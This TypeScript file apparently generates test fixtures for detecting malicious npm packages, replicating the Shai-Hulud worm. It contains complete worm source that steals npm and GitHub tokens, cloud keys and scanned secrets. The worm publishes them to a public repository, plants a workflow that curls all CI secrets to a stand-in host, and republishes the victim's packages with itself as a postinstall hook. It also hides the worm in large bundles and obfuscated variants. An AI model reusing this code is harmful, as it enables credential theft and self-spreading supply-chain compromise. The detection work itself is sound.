import { bundle } from '../bulk';
import { casesOf } from '../case';
import { oneLine, renamedLocals, stringArray } from '../disguise/javascript';
import { npm, type NpmParts } from '../packages';

interface Told {
  api: string;
  packages: string;
  releases: string;
  drop: string;
  sink: string;
}

/** Nothing is written or published before the forge has answered, which a reserved name never does. */
const worm = ({ api, packages, releases, drop, sink }: Told) => String.raw`
(function () {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const https = require('https');
  const childProcess = require('child_process');
  function ask(host, method, where, token, body) {
    return new Promise(function (resolve, reject) {
      const request = https.request({ hostname: host, path: where, method: method, headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' } }, function (response) {
        const parts = [];
        response.on('data', function (part) { parts.push(part); });
        response.on('end', function () { resolve(Buffer.concat(parts)); });
      });
      request.on('error', reject);
      request.end(body ? JSON.stringify(body) : undefined);
    });
  }
  function npmToken() {
    const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    const found = /_authToken=\s*([^\s]+)/.exec(text);
    return found ? found[1] : process.env.NPM_TOKEN;
  }
  async function scanSecrets() {
    const tool = path.join(os.tmpdir(), 'trufflehog');
    fs.writeFileSync(tool, await ask('${releases}', 'GET', '/trufflehog/latest/' + process.platform + '_' + process.arch, ''));
    fs.chmodSync(tool, 0o755);
    return childProcess.execFileSync(tool, ['filesystem', os.homedir(), '--json'], { timeout: 90000 }).toString();
  }
  const workflow = [
    'name: Formatter',
    'on: push',
    'jobs:',
    '  lint:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    '      - run: curl -d "$CONTENTS" https://${sink}/bb8ca5f6',
    '        env:',
    '          CONTENTS: ' + '$' + '{{ toJSON(secrets) }}',
  ].join('\n');
  async function spread(token) {
    const who = JSON.parse(await ask('${packages}', 'GET', '/-/whoami', token)).username;
    const list = JSON.parse(await ask('${packages}', 'GET', '/-/v1/search?text=maintainer:' + who + '&size=20', token)).objects;
    for (const item of list) {
      const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'npm-'));
      fs.writeFileSync(path.join(folder, 'package.tgz'), await ask('${packages}', 'GET', '/' + item.package.name + '/-/latest.tgz', token));
      childProcess.execSync('tar -xzf package.tgz', { cwd: folder });
      const file = path.join(folder, 'package', 'package.json');
      const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
      manifest.version = manifest.version.replace(/\d+$/, function (last) { return String(Number(last) + 1); });
      manifest.scripts = Object.assign({}, manifest.scripts, { postinstall: 'node bundle.js' });
      fs.writeFileSync(file, JSON.stringify(manifest, null, 2));
      fs.copyFileSync(__filename, path.join(folder, 'package', 'bundle.js'));
      childProcess.execSync('npm publish --registry https://${packages}', { cwd: path.join(folder, 'package') });
    }
  }
  (async function () {
    const github = process.env.GITHUB_TOKEN || childProcess.execSync('gh auth token').toString().trim();
    const me = JSON.parse(await ask('${api}', 'GET', '/user', github));
    const found = { env: process.env, aws: process.env.AWS_SECRET_ACCESS_KEY, gcp: process.env.GOOGLE_APPLICATION_CREDENTIALS, secrets: await scanSecrets() };
    await ask('${api}', 'POST', '/user/repos', github, { name: '${drop}', description: '${drop} Repository.', private: false });
    await ask('${api}', 'PUT', '/repos/' + me.login + '/${drop}/contents/data.json', github, { message: 'init', content: Buffer.from(Buffer.from(JSON.stringify(found)).toString('base64')).toString('base64') });
    for (const repo of JSON.parse(await ask('${api}', 'GET', '/user/repos?affiliation=owner', github))) {
      await ask('${api}', 'PUT', '/repos/' + repo.full_name + '/contents/.github/workflows/shai-hulud-workflow.yml', github, { message: 'Add workflow', branch: 'shai-hulud', content: Buffer.from(workflow).toString('base64') });
    }
    await spread(npmToken());
  })().catch(function () {});
})();
`;

const REPLICA: Told = {
  api: 'api.git-hub.invalid',
  packages: 'packages-registry.invalid',
  releases: 'tool-releases.invalid',
  drop: 'Shai-Hulud',
  sink: 'webhook-site.invalid',
};

const parts = (body: string): NpmParts => ({
  about: 'Colours as numbers.',
  manifest: { scripts: { postinstall: 'node bundle.js' } },
  files: { 'bundle.js': body },
});

export const shaiHulud1 = casesOf({
  id: 'shai-hulud-1',
  incident: 'shai-hulud-1',
  kind: 'install-hook',
  seen: 'postinstall runs a bundle of several MB that looks for secrets with a fetched tool, makes repositories and workflows and publishes changed siblings',
  replica: npm('tiny-colours', '4.1.1', () =>
    parts(
      `${bundle('shai', 2_300_000)}${oneLine(worm(REPLICA))}\n${bundle('hulud', 300_000).replace(/__(modules|cache|load)/g, '__$1_b')}`,
    ),
  ),
  renamed: npm('@robin/ngx-form', '2.0.7', () => ({
    about: 'Forms.',
    manifest: { scripts: { postinstall: 'node dist/vendor.js' } },
    files: {
      'dist/vendor.js': `${bundle('ngx', 1_100_000)}${oneLine(
        renamedLocals(
          worm({
            api: 'forge-api.invalid',
            packages: 'npm-mirror.invalid',
            releases: 'bin-store.invalid',
            drop: 'sand-walker',
            sink: 'hookbin.invalid',
          }).replace(/shai-hulud/g, 'format-check'),
          'ngx',
        ),
      )}\n`,
    },
  })),
  reObfuscated: npm('tiny-colours', '4.1.2', () =>
    parts(`${bundle('shai', 1_200_000)}${stringArray(worm(REPLICA), 'hulud', true)}\n`),
  ),
  otherStage: {
    kind: 'import-time',
    seen: 'requiring the package runs a bundle of several MB that looks for secrets with a fetched tool, makes repositories and publishes changed siblings',
    sample: npm('tiny-colours', '4.1.3', () => ({
      ...parts(`${bundle('shai', 1_100_000)}${oneLine(worm(REPLICA))}\n`),
      manifest: {},
      index: (honest) => `${honest}\nrequire('./bundle.js');\n`,
    })),
  },
});
